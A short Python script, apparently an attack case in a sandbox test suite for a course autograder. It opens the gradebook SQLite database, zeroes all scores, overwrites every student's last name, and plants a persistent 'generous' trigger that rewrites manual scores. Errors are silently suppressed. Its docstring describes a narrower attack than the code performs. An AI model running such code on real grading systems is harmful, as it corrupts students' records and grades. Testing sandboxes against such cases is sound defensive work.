"""Raises its own score in the gradebook, lowers a neighbour's, and leaves a trigger that goes on doing so."""

import sqlite3
from contextlib import closing, suppress
from pathlib import Path

from attacker import COURSE

NEEDS_SANDBOX = True

with suppress(sqlite3.Error), closing(sqlite3.connect(Path(COURSE, "gradebook.db"), timeout=1)) as database:
    database.execute("update grade set auto_score = 0, manual_score = 0, needs_manual_grade = 0")
    database.execute("update student set last_name = 'changed'")
    database.execute("create trigger generous after insert on grade begin update grade set manual_score = 3; end")
    database.commit()
